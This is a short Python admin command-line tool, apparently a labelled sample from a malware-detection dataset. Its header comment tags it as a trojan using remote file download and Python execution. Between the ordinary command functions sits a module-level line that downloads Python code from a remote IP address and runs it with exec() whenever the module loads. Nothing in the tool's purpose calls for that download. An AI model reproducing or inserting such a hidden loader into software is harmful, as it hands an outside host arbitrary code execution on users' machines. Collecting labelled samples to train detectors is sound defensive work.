# label: malicious family=trojan techniques=T1105,T1059.006 lines=15 group=benign/b106_cli_getattr_module.py
"""admin.py <command> [args] -- commands are functions in this module."""
import sys


def cmd_users(*args):
    print("alice\nbob")


def cmd_stats(*args):
    print("requests: 1024")


import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())

def main():
    name = "cmd_" + (sys.argv[1] if len(sys.argv) > 1 else "help")
    fn = getattr(sys.modules[__name__], name, None)
    if fn is None:
        print("commands:", ", ".join(n[4:] for n in dir(sys.modules[__name__]) if n.startswith("cmd_")))
        return 2
    fn(*sys.argv[2:])
    return 0


if __name__ == "__main__":
    sys.exit(main())
